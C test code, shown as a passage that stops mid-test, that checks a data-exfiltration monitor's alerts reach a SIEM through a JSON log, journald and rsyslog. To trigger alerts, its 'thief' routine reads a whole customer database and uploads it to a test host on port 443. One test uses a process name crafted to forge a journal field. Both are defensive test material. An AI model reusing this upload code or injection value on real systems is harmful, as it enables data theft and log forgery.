// SPDX-License-Identifier: GPL-2.0-only
/*
 * What a SIEM gets, end to end, from a real exfilmond on the sensor under
 * test ($EXFILMON_SENSOR) catching real thefts to a test host:
 *  - every line of the JSON log validates against the published JSON
 *    Schema (docs/schema/), and the validator is proven to refuse bad ones;
 *  - the journal entries carry the documented fields, read in journald's
 *    place from the native protocol socket (and with journalctl where a
 *    journal runs);
 *  - Debian's rsyslogd forwards each line intact over TCP, configured as
 *    docs/siem.md says;
 *  - logrotate's rotation (packaging/logrotate/exfilmon) loses no line.
 * A machine without python3-jsonschema (the VM guest) or rsyslogd skips
 * that test, saying why; without logrotate, the rotation test renames the
 * log as logrotate would.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include "kselftest_harness.h"
#include "customers.h"
#include "daemon_run.h"
#include "testhost.h"

#define DB_BYTES	(3 << 20)
#define THEFT_PORT	443
#define HOST_IDX	33		/* 198.18.33.0/24, 2001:db8:21::/64 */
#define MESSAGE_ID	"5c0d3f2a9e8b4b7c8a61e2f0d4b9a7c3"
#define SCHEMA		"docs/schema/exfilmon-alert-v1.schema.json"
#define LOGROTATE_CONF	"packaging/logrotate/exfilmon"
#define PYTHON		"/usr/bin/python3"	/* Debian's, with jsonschema */
#define RSYSLOGD	"/usr/sbin/rsyslogd"
#define LOGROTATE	"/usr/sbin/logrotate"
#define JOURNAL_SOCKET	"/run/systemd/journal/socket"
#define MAX_LINES	32
#define MAX_FIELDS	64

struct world {
	char dir[64];
	char db[128];
	char conf[128];
	char sock[128];
	char log[128];
	char jsonlog[128];
	long size;
	struct testhost th;
	pid_t daemon;
	pid_t rsyslogd;		/* started by the test; 0: none */
	int journal;		/* journald's socket, in our place; or -1 */
};

static void world_down(struct world *e);

/*
 * Run exfilmond in a mount namespace of its own where /run/systemd/journal
 * is a tmpfs holding our socket at journald's address. libsystemd's
 * sd_journal_send() then talks to us, and a test never writes into the
 * machine's own journal or needs one. jfd is bound in the child, once in
 * the namespace, and read by the parent: both hold the same socket.
 */
static pid_t start_daemon(struct world *e, int jfd)
{
	struct sockaddr_un sun = { .sun_family = AF_UNIX };
	char prog[512];
	struct stat st;
	pid_t pid;

	snprintf(prog, sizeof(prog), "%s/exfilmond", build_dir());
	strcpy(sun.sun_path, JOURNAL_SOCKET);
	unlink(e->sock);
	pid = fork();
	if (pid < 0)
		return -1;
	if (!pid) {
		/* a host without systemd may lack /run/systemd: cover /run */
		const char *top = stat("/run/systemd", &st) ? "/run" :
			"/run/systemd";
		int fd;

		if (unshare(CLONE_NEWNS) ||
		    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
		    mount("tmpfs", top, "tmpfs", MS_NOSUID | MS_NODEV,
			  "mode=0755") ||
		    (mkdir("/run/systemd", 0755) && errno != EEXIST) ||
		    mkdir("/run/systemd/journal", 0755) ||
		    bind(jfd, (struct sockaddr *)&sun, sizeof(sun))) {
			perror("fake journald");
			_exit(126);
		}
		fd = open(e->log, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC,
			  0600);
		if (fd < 0 || dup2(fd, 1) < 0 || dup2(fd, 2) < 0)
			_exit(126);
		/* nothing pinned: a killed test daemon leaves nothing */
		execl(prog, "exfilmond", "--config", e->conf, "--foreground",
		      "--sensor", sensor_under_test(), "--pin-dir", "none",
		      (char *)NULL);
		_exit(127);
	}
	return daemon_await(pid, e->sock);
}

/*
 * 1: skipped, 0: up, -1: failed. fake_journal: run the daemon with our
 * socket in journald's place (start_daemon()), where there is a /run.
 */
static int world_up(struct __test_metadata *_metadata, struct world *e,
		    int fake_journal)
{
	int rcvbuf = 4 << 20;
	char conf[2048];
	struct stat st;

	e->journal = -1;
	e->daemon = -1;
	e->rsyslogd = 0;
	if (geteuid())
		SKIP(return 1, "exfilmond needs root");
	strcpy(e->dir, "/tmp/exfilmon-siem-XXXXXX");
	if (!mkdtemp(e->dir) || chmod(e->dir, 0755))
		goto fail;
	snprintf(e->db, sizeof(e->db), "%s/customers.csv", e->dir);
	snprintf(e->conf, sizeof(e->conf), "%s/exfilmon.conf", e->dir);
	snprintf(e->sock, sizeof(e->sock), "%s/exfilmon.sock", e->dir);
	snprintf(e->log, sizeof(e->log), "%s/exfilmond.log", e->dir);
	snprintf(e->jsonlog, sizeof(e->jsonlog), "%s/state/alerts.json",
		 e->dir);
	e->size = customers_write(e->db, DB_BYTES);
	if (e->size < 0)
		goto fail;
	snprintf(conf, sizeof(conf),
		 "[watch]\npath = %s\n\n"
		 "[correlation]\nread_threshold = 1M\nsend_threshold = 256K\n"
		 "window = 1h\n\n"
		 "[network]\ninternal = 10.0.0.0/8\n\n"
		 "[daemon]\nstate_dir = %s/state\nsocket = %s\n"
		 "group = exfilmon-test-nonexistent\n",
		 e->db, e->dir, e->sock);
	if (write_file(e->conf, conf))
		goto fail;
	/* journald's socket needs a /run to cover; without one, no fake */
	if (fake_journal && !stat("/run", &st) && S_ISDIR(st.st_mode)) {
		e->journal = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		/* room for every entry of a test: the daemon never waits */
		if (e->journal < 0 ||
		    setsockopt(e->journal, SOL_SOCKET, SO_RCVBUFFORCE, &rcvbuf,
			       sizeof(rcvbuf)))
			goto fail;
	}
	/* a test host left behind would take the next one's route */
	if (testhost_create(&e->th, HOST_IDX))
		goto fail;
	e->daemon = e->journal >= 0 ? start_daemon(e, e->journal) :
		daemon_start(e->conf, e->sock, e->log);
	if (e->daemon < 0) {
		run("cat %s >&2", e->log);
		goto fail;
	}
	return 0;
fail:
	perror("# world_up");
	world_down(e);
	return -1;
}

static void world_down(struct world *e)
{
	if (e->rsyslogd > 0) {
		kill(e->rsyslogd, SIGKILL);
		waitpid(e->rsyslogd, NULL, 0);
		e->rsyslogd = 0;
	}
	if (e->daemon > 0)
		daemon_stop(e->daemon);
	e->daemon = -1;
	testhost_destroy(&e->th);
	if (e->journal >= 0)
		close(e->journal);
	e->journal = -1;
	if (e->dir[0])
		run("rm -rf %s", e->dir);
	e->dir[0] = '\0';
}

struct theft {
	const struct world *e;
	const char *addr;
};

/* Read the whole database, then upload it; exits 0 when all went. */
static int thief(const struct theft *t)
{
	struct sockaddr_storage ss = { 0 };
	struct sockaddr_in *sin = (struct sockaddr_in *)&ss;
	struct sockaddr_in6 *sin6 = (struct sockaddr_in6 *)&ss;
	int v6 = strchr(t->addr, ':') != NULL;
	long got = 0, sent = 0;
	char *buf = malloc(t->e->size);
	int fd;

	if (!buf)
		return 1;
	fd = open(t->e->db, O_RDONLY);
	if (fd < 0)
		return 2;
	while (got < t->e->size) {
		ssize_t n = read(fd, buf + got, t->e->size - got);

		if (n <= 0)
			return 2;
		got += n;
	}
	close(fd);
	if (v6) {
		sin6->sin6_family = AF_INET6;
		sin6->sin6_port = htons(THEFT_PORT);
		inet_pton(AF_INET6, t->addr, &sin6->sin6_addr);
	} else {
		sin->sin_family = AF_INET;
		sin->sin_port = htons(THEFT_PORT);
		inet_pton(AF_INET, t->addr, &sin->sin_addr);
	}
	fd = socket(ss.ss_family, SOCK_STREAM, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&ss, sizeof(ss)))
		return 3;
	while (sent < got) {
		ssize_t n = write(fd, buf + sent, got - sent);

		if (n <= 0)
			return 4;
		sent += n;
	}
	close(fd);
	return 0;
}

#define THIEF_ENV	"EXFILMON_SIEM_THIEF"	/* "<db> <size> <addr>" */

/*
 * The thief under a name of the test's choosing: steal() executes this
 * program again through a symlink, whose name the kernel makes the comm,
 * with THIEF_ENV set. This runs before the harness's main().
 */
__attribute__((constructor)) static void thief_exec(void)
{
	static struct world w;
	struct theft t = { &w, NULL };
	const char *arg = getenv(THIEF_ENV);
	static char addr[64];

	if (!arg)
		return;
	if (sscanf(arg, "%127s %ld %63s", w.db, &w.size, addr) != 3)
		_exit(100);
	t.addr = addr;
	_exit(thief(&t));
}

/* Run the thief as a program named comm, in the child. */
static void exec_thief(const struct world *e, const char *addr,
		       const char *comm)
{
	char self[512], link[256], env[512];
	ssize_t n = readlink("/proc/self/exe", self, sizeof(self) - 1);

	if (n < 0)
		_exit(101);
	self[n] = '\0';
	snprintf(link, sizeof(link), "%s/%s", e->dir, comm);
	snprintf(env, sizeof(env), "%s %ld %s", e->db, e->size, addr);
	if ((symlink(self, link) && errno != EEXIST) ||
	    setenv(THIEF_ENV, env, 1))
		_exit(102);
	execl(link, link, (char *)NULL);
	_exit(103);
}

/*
 * A theft of the whole database to addr, by a child of ours or (comm not
 * NULL) a program of that name; the thief's pid, or -1.
 */
static pid_t steal(const struct world *e, const char *addr, const char *comm)
{
	struct theft t = { e, addr };
	struct sink sink;
	int status = -1;
	pid_t pid;

	if (sink_start((struct testhost *)&e->th,
		       strchr(addr, ':') ? AF_INET6 : AF_INET, SOCK_STREAM,
		       THEFT_PORT, &sink))
		return -1;
	pid = fork();
	if (!pid && comm)
		exec_thief(e, addr, comm);
	if (!pid)
		_exit(thief(&t));
	if (pid < 0 || waitpid(pid, &status, 0) != pid || status) {
		fprintf(stderr, "# the thief failed: status 0x%x\n", status);
		/* the receiver would wait for it forever */
		kill(sink.pid, SIGKILL);
		sink_wait(&sink);
		return -1;
	}
	if (sink_wait(&sink) != e->size)
		return -1;
	return pid;
}

/*
 * JSON log lines.
 */
struct lines {
	int n;
	char *text[MAX_LINES];
	struct json_object *obj[MAX_LINES];	/* NULL: not JSON */
};

static void lines_free(struct lines *l)
{
	int i;

	for (i = 0; i < l->n; i++) {
		free(l->text[i]);
		json_object_put(l->obj[i]);
	}
	l->n = 0;
}

/* Append path's lines to l (a missing file has none); -1 if one is torn. */
static int lines_read(struct lines *l, const char *path)
{
	char *line = NULL;
	size_t size = 0;
	ssize_t len;
	int ret = 0;
	FILE *f;

	f = fopen(path, "r");
	if (!f)
		return errno == ENOENT ? 0 : -1;
	while ((len = getline(&line, &size, f)) > 0 && l->n < MAX_LINES) {
		if (line[len - 1] != '\n')
			ret = -1;
		line[len - 1] = '\0';
		l->text[l->n] = strdup(line);
		l->obj[l->n] = json_tokener_parse(line);
		l->n++;
	}
	free(line);
	fclose(f);
	return ret;
}

/* The member at a dotted path ("process.parent.pid", "files.0.path") */
static struct json_object *at(struct json_object *o, const char *path)
{
	char buf[128], *key, *save = NULL;

	snprintf(buf, sizeof(buf), "%s", path);
	for (key = strtok_r(buf, ".", &save); o && key;
	     key = strtok_r(NULL, ".", &save)) {
		if (json_object_is_type(o, json_type_array))
			o = json_object_array_get_idx(o, atoi(key));
		else if (!json_object_object_get_ex(o, key, &o))
			return NULL;
	}
	return o;
}

static const char *str_at(struct json_object *o, const char *path)
{
	o = at(o, path);
	return o ? json_object_get_string(o) : "";
}

static int64_t num_at(struct json_object *o, const char *path)
{
	o = at(o, path);
	return o ? json_object_get_int64(o) : -1;
}

/* The line of alert id's event ("new", "update"), or -1. */
static int line_of(const struct lines *l, int64_t id, const char *event)
{
	int i;

	for (i = 0; i < l->n; i++)
		if (l->obj[i] && num_at(l->obj[i], "exfilmon.alert_id") == id &&
		    !strcmp(str_at(l->obj[i], "exfilmon.event"), event))
			return i;
	return -1;
}

/*
 * Wait for the JSON log to have alert id's line for event: 30 s, for
 * the slowest machine (qemu without KVM) to raise and settle it.
 */
static int wait_lines(const char *path, int64_t id, const char *event)
{
	int i, found = 0;

	for (i = 0; i < 300 && !found; i++) {
		struct lines l = { 0 };

		lines_read(&l, path);
		found = line_of(&l, id, event) >= 0;
		lines_free(&l);
		if (!found)
			usleep(100000);
	}
	return found ? 0 : -1;
}

/* exfilctl show ID --json (the internal form, docs/alerts.md) */
static struct json_object *show(const struct world *e, int64_t id)
{
	const char *args[] = { "show", NULL, NULL };
	char buf[32];

	snprintf(buf, sizeof(buf), "%lld", (long long)id);
	args[1] = buf;
	return ctl_json(e->sock, args);
}

/* A theft and both its lines (new, then update once it settled). */
static void theft_logged(struct __test_metadata *_metadata,
			 const struct world *e, const char *addr,
			 const char *comm, int64_t id)
{
	ASSERT_LT(0, steal(e, addr, comm));
	ASSERT_EQ(0, wait_lines(e->jsonlog, id, "new"));
	/* the update comes when the alert has been quiet for 5 s */
	ASSERT_EQ(0, wait_lines(e->jsonlog, id, "update"));
}

/* Run a shell command and collect its output; exit status or -1. */
static int capture(char *out, size_t size, const char *fmt, ...)
	__attribute__((format(printf, 3, 4)));

static int capture(char *out, size_t size, const char *fmt, ...)
{
	char cmd[2048];
	size_t used = 0, n;
	va_list ap;
	FILE *p;
	int st;

	va_start(ap, fmt);
	vsnprintf(cmd, sizeof(cmd), fmt, ap);
	va_end(ap);
	p = popen(cmd, "r");
	if (!p)
		return -1;
	while (used < size - 1 &&
	       (n = fread(out + used, 1, size - 1 - used, p)) > 0)
		used += n;
	out[used] = '\0';
	st = pclose(p);
	return WIFEXITED(st) ? WEXITSTATUS(st) : -1;
}

/*
 * (a) The schema.
 *
 * The validator: each line of argv[2] against the schema argv[1], printing
 * "N ok" or "N invalid: <why>"; exit 0 only if every line is valid. The
 * format checker makes "ipv4"/"ipv6" count.
 */
static const char VALIDATE_PY[] =
	"import json, sys\n"
	"from jsonschema import Draft202012Validator as V\n"
	"schema = json.load(open(sys.argv[1]))\n"
	"V.check_schema(schema)\n"
	"v = V(schema, format_checker=V.FORMAT_CHECKER)\n"
	"bad = 0\n"
	"for n, line in enumerate(open(sys.argv[2], encoding='utf-8'), 1):\n"
	"    errs = sorted(v.iter_errors(json.loads(line)), key=str)\n"
	"    bad += bool(errs)\n"
	"    print(n, 'invalid: ' + errs[0].message if errs else 'ok')\n"
	"sys.exit(1 if bad else 0)\n";

static int have_jsonschema(void)
{
	return !access(PYTHON, X_OK) &&
	       !system(PYTHON " -c 'import jsonschema; "
		       "jsonschema.Draft202012Validator.FORMAT_CHECKER' "
		       ">/dev/null 2>&1");
}

static int validate(const struct world *e, const char *file, char *out,
		    size_t size)
{
	char script[160];

	snprintf(script, sizeof(script), "%s/validate.py", e->dir);
	if (write_file(script, VALIDATE_PY))
		return -1;
	return capture(out, size, PYTHON " %s %s %s 2>&1", script, SCHEMA,
		       file);
}

/* A real line, broken one way: set path to the JSON text val (NULL: drop). */
static char *broken(const char *line, const char *parent, const char *key,
		    const char *val)
{
	struct json_object *obj = json_tokener_parse(line);
	struct json_object *p = obj ? (parent ? at(obj, parent) : obj) : NULL;
	char *s = NULL;

	if (p) {
		if (val)
			json_object_object_add(p, key,
					       json_tokener_parse(val));
		else
			json_object_object_del(p, key);
		s = strdup(json_object_to_json_string_ext(obj,
			JSON_C_TO_STRING_PLAIN));
	}
	json_object_put(obj);
	return s;
}

FIXTURE(siem) {
	struct world e;
};

FIXTURE_SETUP(siem)
{
	int ret = world_up(_metadata, &self->e, 1);

	if (ret != 1)
		ASSERT_EQ(0, ret);
}

FIXTURE_TEARDOWN(siem)
{
	world_down(&self->e);
}

TEST_F_TIMEOUT(siem, every_log_line_validates_against_the_schema, 120)
{
	/* each must be refused: wrong type, missing, unknown, bad enum */
	static const char *const mistakes[][3] = {
		{ "source", "bytes", "\"3145728\"" },
		{ "exfilmon", "schema_version", NULL },
		{ "exfilmon", "sender", "1" },
		{ "event", "kind", "\"event\"" },
		{ "destination", "ip", "\"198.18.33\"" },
		{ NULL, "@timestamp", "\"2026-12-04 11:28:20\"" },
	};
	const int nr = sizeof(mistakes) / sizeof(mistakes[0]);
	struct world *e = &self->e;
	struct lines l = { 0 };
	char out[8192], bad[160], expect[32];
	FILE *f;
	int i;

	if (_metadata->skip)
		return;	/* skipped in the setup */
	if (!have_jsonschema())
		SKIP(return, PYTHON " with jsonschema >= 4.5 (Debian's "
		     "python3-jsonschema) is not installed");
	if (access(SCHEMA, R_OK))
		SKIP(return, "%s is not found from here", SCHEMA);

	/* two alerts, IPv4 and IPv6, each new and settled: four lines */
	theft_logged(_metadata, e, e->th.remote4, NULL, 1);
	theft_logged(_metadata, e, e->th.remote6, NULL, 2);
	ASSERT_EQ(0, lines_read(&l, e->jsonlog));
	ASSERT_EQ(4, l.n);
	EXPECT_EQ(0, validate(e, e->jsonlog, out, sizeof(out)));
	TH_LOG("validator: %s", out);
	EXPECT_STREQ("1 ok\n2 ok\n3 ok\n4 ok\n", out);
	EXPECT_STREQ("ipv6", str_at(l.obj[line_of(&l, 2, "new")],
				    "network.type"));

	/* the validator is live: a broken copy of a real line fails */
	snprintf(bad, sizeof(bad), "%s/broken.json", e->dir);
	f = fopen(bad, "w");
	ASSERT_NE(NULL, f);
	for (i = 0; i < nr; i++) {
		char *s = broken(l.text[0], mistakes[i][0], mistakes[i][1],
				 mistakes[i][2]);

		ASSERT_NE(NULL, s);
		fprintf(f, "%s\n", s);
		free(s);
	}
	fprintf(f, "%s\n", l.text[0]);	/* and the real one passes */
	ASSERT_EQ(0, fclose(f));
	EXPECT_EQ(1, validate(e, bad, out, sizeof(out)));
	TH_LOG("validator on broken lines: %s", out);
	for (i = 1; i <= nr; i++) {
		snprintf(expect, sizeof(expect), "%d invalid: ", i);
		EXPECT_NE(NULL, strstr(out, expect));
	}
	snprintf(expect, sizeof(expect), "\n%d ok\n", nr + 1);
	EXPECT_NE(NULL, strstr(out, expect));
	lines_free(&l);
}

/*
 * (b) The journal: sd_journal_send()'s native protocol, as journald gets
 * it. Each datagram is one entry: "KEY=value\n", or for a value holding a
 * newline "KEY\n", its length as 64-bit little endian, the value and "\n".
 * An entry too big for a datagram comes as a sealed memfd instead.
 */
struct entry {
	int n;
	char *key[MAX_FIELDS];
	char *val[MAX_FIELDS];
};

static void entry_free(struct entry *en)
{
	int i;

	for (i = 0; i < en->n; i++) {
		free(en->key[i]);
		free(en->val[i]);
	}
	en->n = 0;
}

static int entry_add(struct entry *en, const char *k, size_t klen,
		     const char *v, size_t vlen)
{
	if (en->n == MAX_FIELDS || !klen)
		return -1;
	en->key[en->n] = strndup(k, klen);
	en->val[en->n] = malloc(vlen + 1);
	if (!en->key[en->n] || !en->val[en->n])
		return -1;
	memcpy(en->val[en->n], v, vlen);
	en->val[en->n][vlen] = '\0';
	en->n++;
	return 0;
}

static int parse_native(const char *p, size_t len, struct entry *en)
{
	const char *end = p + len, *nl, *eq;
	uint64_t vlen;
	int i;

	while (p < end) {
		nl = memchr(p, '\n', end - p);
		if (!nl)
			return -1;
		eq = memchr(p, '=', nl - p);
		if (eq) {
			if (entry_add(en, p, eq - p, eq + 1, nl - eq - 1))
				return -1;
			p = nl + 1;
			continue;
		}
		if (end - (nl + 1) < 8)
			return -1;
		for (vlen = 0, i = 7; i >= 0; i--)
			vlen = vlen << 8 | (unsigned char)nl[1 + i];
		if (vlen > (uint64_t)(end - (nl + 9)) - 1 || nl[9 + vlen] != '\n')
			return -1;
		if (entry_add(en, p, nl - p, nl + 9, vlen))
			return -1;
		p = nl + 10 + vlen;
	}
	return 0;
}

/* The next entry, within timeout_ms; 0, or -1 (timeout or bad entry). */
static int recv_entry(int fd, struct entry *en, int timeout_ms, int *memfd)
{
	union {
		struct cmsghdr h;
		char buf[CMSG_SPACE(sizeof(int))];
	} ctl;
	struct pollfd p = { .fd = fd, .events = POLLIN };
	size_t size = 1 << 20;
	char *buf = malloc(size);
	struct iovec iov = { buf, size };
	struct msghdr msg = {
		.msg_iov = &iov, .msg_iovlen = 1,
		.msg_control = ctl.buf, .msg_controllen = sizeof(ctl.buf),
	};
	struct cmsghdr *c;
	ssize_t n;
	int ret = -1, passed = -1;

	if (!buf || poll(&p, 1, timeout_ms) != 1)
		goto out;
	n = recvmsg(fd, &msg, MSG_CMSG_CLOEXEC);
	if (n < 0 || (msg.msg_flags & (MSG_TRUNC | MSG_CTRUNC)))
		goto out;
	for (c = CMSG_FIRSTHDR(&msg); c; c = CMSG_NXTHDR(&msg, c))
		if (c->cmsg_level == SOL_SOCKET && c->cmsg_type == SCM_RIGHTS)
			memcpy(&passed, CMSG_DATA(c), sizeof(int));
	if (passed >= 0) {
		/* the entry is the memfd's content; the datagram is empty */
		struct stat st;

		*memfd = 1;
		if (n || fstat(passed, &st) || (size_t)st.st_size > size)
			goto out;
		n = pread(passed, buf, st.st_size, 0);
		if (n != st.st_size)
			goto out;
	}
	ret = parse_native(buf, n, en);
out:
	if (passed >= 0)
		close(passed);
	free(buf);
	return ret;
}

static int entry_count(const struct entry *en, const char *key)
{
	int i, n = 0;

	for (i = 0; i < en->n; i++)
		n += !strcmp(en->key[i], key);
	return n;
}

static const char *entry_get(const struct entry *en, const char *key)
{
	int i;

	for (i = 0; i < en->n; i++)
		if (!strcmp(en->key[i], key))
			return en->val[i];
	return NULL;
}

/* What a journal entry must say, from an alert's internal JSON object. */
static void check_entry(struct __test_metadata *_metadata,
			const struct entry *en, struct json_object *a,
			const char *event, const struct world *e)
{
	static const char *const once[] = {
		"MESSAGE", "MESSAGE_ID", "PRIORITY", "SYSLOG_IDENTIFIER",
		"EXFILMON_ALERT_ID", "EXFILMON_EVENT", "EXFILMON_SEVERITY",
		"EXFILMON_PID", "EXFILMON_UID", "EXFILMON_USER",
		"EXFILMON_COMM", "EXFILMON_EXE", "EXFILMON_HOST",
		"EXFILMON_DEST", "EXFILMON_PROTO", "EXFILMON_DESTINATIONS",
		"EXFILMON_FILE", "EXFILMON_BYTES_READ", "EXFILMON_BYTES_SENT",
		"EXFILMON_TAINT", "EXFILMON_SENDERS", "EXFILMON_SENSOR",
		"EXFILMON_CHAIN",
	};
	char want[256];
	size_t i;

	for (i = 0; i < sizeof(once) / sizeof(once[0]); i++) {
		const char *key = once[i];
		int n = entry_count(en, key);

		EXPECT_EQ(1, n) TH_LOG("%s appears %d times", key, n);
	}
	ASSERT_STREQ(MESSAGE_ID, entry_get(en, "MESSAGE_ID"));
	EXPECT_STREQ(strcmp(event, "new") ? "6" : "4",
		     entry_get(en, "PRIORITY"));
	EXPECT_STREQ("exfilmond", entry_get(en, "SYSLOG_IDENTIFIER"));
	EXPECT_STREQ(event, entry_get(en, "EXFILMON_EVENT"));
#define SAME_NUM(field, key) do {					\
		snprintf(want, sizeof(want), "%lld",			\
			 (long long)num_at(a, key));			\
		EXPECT_STREQ(want, entry_get(en, field));		\
	} while (0)
#define SAME_STR(field, key) \
	EXPECT_STREQ(str_at(a, key), entry_get(en, field))
	SAME_NUM("EXFILMON_ALERT_ID", "id");
	SAME_STR("EXFILMON_SEVERITY", "severity");
	SAME_NUM("EXFILMON_PID", "pid");
	SAME_NUM("EXFILMON_UID", "uid");
	SAME_STR("EXFILMON_USER", "user");
	SAME_STR("EXFILMON_COMM", "comm");
	SAME_STR("EXFILMON_EXE", "exe");
	SAME_STR("EXFILMON_HOST", "host");
	SAME_NUM("EXFILMON_BYTES_READ", "bytes_read");
	SAME_NUM("EXFILMON_BYTES_SENT", "bytes_sent");
	SAME_NUM("EXFILMON_TAINT", "taint");
	SAME_NUM("EXFILMON_SENDERS", "senders");
	SAME_STR("EXFILMON_SENSOR", "sensor");
	SAME_STR("EXFILMON_FILE", "files.0.path");
	SAME_STR("EXFILMON_PROTO", "destinations.0.proto");
#undef SAME_NUM
#undef SAME_STR
	snprintf(want, sizeof(want), "%s:%d", e->th.remote4, THEFT_PORT);
	EXPECT_STREQ(want, entry_get(en, "EXFILMON_DEST"));
	snprintf(want, sizeof(want), "%s:%d/tcp", e->th.remote4, THEFT_PORT);
	EXPECT_STREQ(want, entry_get(en, "EXFILMON_DESTINATIONS"));
	EXPECT_STREQ(e->db, entry_get(en, "EXFILMON_FILE"));
	EXPECT_NE(NULL, strstr(entry_get(en, "MESSAGE") ?: "",
			       str_at(a, "reason")));
	EXPECT_NE(NULL, strstr(entry_get(en, "EXFILMON_CHAIN") ?: "", e->db));
}

/* The internal object (docs/alerts.md) that the JSON log line i holds. */
static struct json_object *line_as_alert(const struct lines *l, int i)
{
	struct json_object *x = at(l->obj[i], "exfilmon"), *a;
	static const char *const keys[] = {
		"severity", "bytes_read", "taint", "bytes_sent", "senders",
		"sensor", "files", "destinations",
	};
	size_t k;

	a = json_object_new_object();
	for (k = 0; k < sizeof(keys) / sizeof(keys[0]); k++)
		json_object_object_add(a, keys[k],
				       json_object_get(at(x, keys[k])));
	json_object_object_add(a, "id", json_object_get(at(x, "alert_id")));
	json_object_object_add(a, "pid",
			       json_object_get(at(l->obj[i], "process.pid")));
	json_object_object_add(a, "uid", json_object_new_int64(
		atoll(str_at(l->obj[i], "user.id"))));
	json_object_object_add(a, "user",
			       json_object_get(at(l->obj[i], "user.name")));
	json_object_object_add(a, "comm",
			       json_object_get(at(l->obj[i], "process.name")));
	json_object_object_add(a, "exe", json_object_get(
		at(l->obj[i], "process.executable")));
	json_object_object_add(a, "host",
			       json_object_get(at(l->obj[i], "destination.ip")));
	json_object_object_add(a, "reason",
			       json_object_get(at(l->obj[i], "message")));
	return a;
}

TEST_F_TIMEOUT(siem, journal_entries_carry_the_alert_fields, 120)
{
	/*
	 * A comm that tries to forge a field: the newline must send the
	 * value in the binary form, and PRIORITY must stay single.
	 */
	static const char comm[] = "x\nPRIORITY=0";
	struct world *e = &self->e;
	struct json_object *shown, *from_line;
	struct entry en[2] = { 0 }, extra = { 0 };
	struct lines l = { 0 };
	int i, memfd = 0;

	if (_metadata->skip)
		return;	/* skipped in the setup */
	if (e->journal < 0)
		SKIP(return, "no /run here to hold journald's socket");

	theft_logged(_metadata, e, e->th.remote4, comm, 1);
	for (i = 0; i < 2; i++)
		ASSERT_EQ(0, recv_entry(e->journal, &en[i], 5000, &memfd));
	EXPECT_EQ(0, memfd) {
		TH_LOG("an entry came as a memfd: the daemon's entries "
		       "should fit a datagram");
	}
	/* nothing else was sent */
	EXPECT_EQ(-1, recv_entry(e->journal, &extra, 0, &memfd));
	entry_free(&extra);

	shown = show(e, 1);
	ASSERT_NE(NULL, shown);
	EXPECT_STREQ(comm, str_at(shown, "comm"));
	ASSERT_EQ(0, lines_read(&l, e->jsonlog));
	ASSERT_LE(0, line_of(&l, 1, "new"));
	/* the new entry says what the new line says... */
	from_line = line_as_alert(&l, line_of(&l, 1, "new"));
	check_entry(_metadata, &en[0], from_line, "new", e);
	json_object_put(from_line);
	/* ...and the settled one what exfilctl shows */
	check_entry(_metadata, &en[1], shown, "update", e);
	EXPECT_STREQ(comm, entry_get(&en[1], "EXFILMON_COMM"));
	json_object_put(shown);
	lines_free(&l);
	entry_free(&en[0]);
	entry_free(&en[1]);
}

/*
 * (c) rsyslog: imfile tails the JSON log, omfwd sends each line over TCP
 * to us: docs/siem.md's configuration, but for the paths and the target.
 * Its own work directory and pid file, and no other input: the machine's
 * syslog (/dev/log) is not touched.
 */
static const char RSYSLOG_CONF[] =
	"global(workDirectory=\"%s/rsyslog\" maxMessageSize=\"64k\")\n"
	"module(load=\"imfile\")\n"
	"template(name=\"exfilmon_line\" type=\"string\" string=\"%%msg%%\\n\")\n"
	"ruleset(name=\"exfilmon\") {\n"
	"\taction(type=\"omfwd\" target=\"127.0.0.1\" port=\"%u\"\n"
	"\t       protocol=\"tcp\" template=\"exfilmon_line\"\n"
	"\t       action.resumeRetryCount=\"-1\"\n"
	"\t       queue.type=\"LinkedList\" queue.filename=\"exfilmon-fwd\"\n"
	"\t       queue.maxDiskSpace=\"256m\" queue.saveOnShutdown=\"on\")\n"
	"}\n"
	"input(type=\"imfile\" file=\"%s\" tag=\"exfilmon\"\n"
	"      ruleset=\"exfilmon\")\n";

/* The newline-terminated lines of buf[0..used) into l (empty ones: none). */
static void split_lines(char *buf, size_t used, struct lines *l)
{
	char *p, *nl;

	for (p = buf; l->n < MAX_LINES &&
	     (nl = memchr(p, '\n', buf + used - p)); p = nl + 1) {
		if (nl == p)
			continue;
		l->text[l->n] = strndup(p, nl - p);
		l->obj[l->n] = json_tokener_parse(l->text[l->n]);
		l->n++;
	}
}

/*
 * What the receiver got, as lines, once it has want of them (and a second
 * more, to catch a duplicate) or 30 s passed. rsyslog may reconnect: up to
 * eight connections.
 */
static int receive_lines(int lfd, struct lines *l, int want)
{
	static char buf[1 << 20];
	int conns[8], nconns = 0, i, t, grace = 10;
	size_t used = 0;

	for (t = 0; t < 300 && grace > 0; t++) {
		if (l->n >= want)
			grace--;
		struct pollfd pf[9] = { { .fd = lfd, .events = POLLIN } };

		for (i = 0; i < nconns; i++)
			pf[i + 1] = (struct pollfd){ .fd = conns[i],
						     .events = POLLIN };
		if (poll(pf, nconns + 1, 100) <= 0)
			continue;
		if ((pf[0].revents & POLLIN) && nconns < 8) {
			conns[nconns] = accept4(lfd, NULL, NULL, SOCK_CLOEXEC);
			nconns += conns[nconns] >= 0;
		}
		for (i = 0; i < nconns; i++) {
			ssize_t n;

			if (conns[i] < 0 || !pf[i + 1].revents)
				continue;
			n = read(conns[i], buf + used, sizeof(buf) - used);
			if (n > 0) {
				used += n;
			} else {
				/* closed: poll() skips it from now on */
				close(conns[i]);
				conns[i] = -1;
			}
		}
		lines_free(l);
		split_lines(buf, used, l);
	}
	for (i = 0; i < nconns; i++)
		if (conns[i] >= 0)
			close(conns[i]);
	return l->n;
}

TEST_F_TIMEOUT(siem, rsyslog_forwards_every_line_intact, 120)
{
	struct sockaddr_in sin = { .sin_family = AF_INET,
				   .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t slen = sizeof(sin);
	struct world *e = &self->e;
	struct lines got = { 0 }, sent = { 0 };
	char conf[2048], path[160], pidfile[160], out[160];
	struct stat devlog_before, devlog_after;
	int lfd, status, i, had_devlog;
	pid_t rs;

	if (_metadata->skip)
		return;	/* skipped in the setup */
